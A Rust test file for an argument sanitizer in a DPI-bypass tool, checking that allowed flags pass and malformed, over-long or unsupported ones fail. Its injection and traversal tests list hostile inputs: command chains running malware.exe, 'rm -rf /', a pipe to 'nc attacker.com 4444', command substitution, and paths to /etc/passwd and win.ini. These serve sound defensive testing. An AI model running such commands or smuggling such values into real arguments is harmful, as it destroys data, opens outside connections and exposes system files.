use vane_core::sanitizer::{validate_preset_args, validate_single_arg, MAX_ARG_COUNT, MAX_ARG_LEN};

#[test]
fn test_valid_args_pass() {
    let args = vec![
        "--wf-tcp=80,443".to_string(),
        "--dpi-desync=fake".to_string(),
        "--dpi-desync-autottl".to_string(),
        "--wssize=1300".to_string(),
        "--filter-tcp=80".to_string(),
        "--windivert".to_string(),
        "tcp.DstPort==443".to_string(),
        "--qnum=200".to_string(),
    ];
    assert!(validate_preset_args(&args).is_ok());
}

#[test]
fn test_shell_injection_rejected() {
    let payloads = vec![
        "--dpi-desync=fake && cmd.exe /c malware.exe",
        "--mss=1300; rm -rf /",
        "--wf-tcp=80|nc attacker.com 4444",
        "--dpi-desync=`whoami`",
        "--mss=$(evil)",
    ];
    for payload in payloads {
        let args = vec![payload.to_string()];
        assert!(validate_preset_args(&args).is_err(), "Injection geçmemeli: {}", payload);
    }
}

#[test]
fn test_unknown_arg_rejected() {
    let args = vec!["--unknown-flag=value".to_string()];
    assert!(validate_preset_args(&args).is_err());
}

#[test]
fn test_empty_arg_rejected() {
    let args = vec!["".to_string()];
    assert!(validate_preset_args(&args).is_err());
}

#[test]
fn test_too_many_args_rejected() {
    let args: Vec<String> = (0..=MAX_ARG_COUNT).map(|_| "--dpi-desync-autottl".to_string()).collect();
    assert!(validate_preset_args(&args).is_err());
}

#[test]
fn test_arg_too_long_rejected() {
    let long_arg = format!("--dpi-desync={}", "x".repeat(MAX_ARG_LEN));
    let args = vec![long_arg];
    assert!(validate_preset_args(&args).is_err());
}

#[test]
fn long_multibyte_arg_is_rejected_without_panicking() {
    let args = vec![format!("--dpi-desync={}", "ş".repeat(80))];
    assert!(validate_preset_args(&args).is_err());
}

#[test]
fn exact_flags_reject_appended_text() {
    for arg in ["--debuganything", "--windivertanything", "--dpi-desync-any-protocol=true"] {
        assert!(validate_preset_args(&[arg.to_string()]).is_err(), "invalid exact flag passed: {arg}");
    }
}

#[test]
fn semantic_values_are_checked() {
    for arg in ["--wf-tcp=0", "--wf-udp=70000", "--bind-addr=not-an-ip", "--dpi-desync-ttl=999"] {
        assert!(validate_preset_args(&[arg.to_string()]).is_err(), "invalid value passed: {arg}");
    }
}

#[test]
fn test_path_traversal_rejected() {
    let payloads = vec![
        "../../../etc/passwd",
        "--hostlist=../../../etc/passwd",
        "--hostlist=C:/Windows/win.ini",
        "--hostlist=..\\..\\Windows\\win.ini",
    ];
    for payload in payloads {
        let args = vec![payload.to_string()];
        assert!(validate_preset_args(&args).is_err(), "Path traversal did not fail: {}", payload);
    }
}

#[test]
fn test_windivert_args_pass() {
    let args = vec![
        "--windivert".to_string(),
        "--windivert=filter".to_string(),
        "tcp.DstPort==443".to_string(),
        "udp.DstPort==443".to_string(),
        "icmp.Type==8".to_string(),
    ];
    assert!(validate_preset_args(&args).is_ok());
}

#[test]
fn test_linux_qnum_arg_passes() {
    let args = vec!["--qnum=200".to_string()];
    assert!(validate_preset_args(&args).is_ok());
}

#[test]
fn preset_hostlist_args_are_rejected_so_pattern_remains_authoritative() {
    let args = vec!["--hostlist=list.txt".to_string(), "--wl=example.com".to_string()];
    assert!(validate_preset_args(&args).is_err());
}

#[test]
fn unsupported_tpws_and_ipset_args_are_rejected() {
    for arg in ["--socks=127.0.0.1:1080", "--ipset=targets.txt"] {
        assert!(validate_preset_args(&[arg.to_string()]).is_err(), "unsupported feature was accepted: {arg}");
    }
}

#[test]
fn preset_hostlist_is_always_rejected() {
    for s in ["", "list.txt", "../../etc/passwd", "a b c", "ş", "C:\\x", "--wf-tcp=80", "hosts"] {
        let arg = format!("--hostlist={}", s);
        let result = validate_single_arg(&arg);
        assert!(result.is_err(), "Preset hostlist unexpectedly passed: {}", s);
    }
}

#[test]
fn preset_whitelist_is_always_rejected() {
    for s in ["a", "example.com", "A-b_c.d-E", "x.y.z", "site_1.org"] {
        let arg = format!("--wl={}", s);
        let result = validate_single_arg(&arg);
        assert!(result.is_err(), "Preset whitelist unexpectedly passed: {}", s);
    }
}

#[test]
fn b02_allowed_prefixes() {
    let prefixed = [
        "--filter-tcp=80",
        "--filter-udp=443",
        "--filter-raw=ip",
        "--wf-tcp=80,443",
        "--wf-udp=53",
        "--wf-raw=ip",
        "--windivert=filter",
        "tcp.DstPort==443",
        "udp.DstPort==443",
        "icmp.Type==8",
        "--qnum=200",
        "--dpi-desync=fake",
        "--dpi-desync-split-pos=1",
        "--dpi-desync-split-seqovl=1",
        "--dpi-desync-repeats=2",
        "--dpi-desync-fooling=badseq",
        "--dpi-desync-ttl=5",
        "--dpi-desync-cutoff=d3",
        "--dpi-desync-split-http-req=host",
        "--dpi-desync-split-tls=sni",
        "--dpi-desync-badseq-increment=1",
        "--wssize=1300",
    ];
    for arg in prefixed {
        assert!(validate_preset_args(&[arg.to_string()]).is_ok(), "Prefixed arg failed: {}", arg);
    }
}
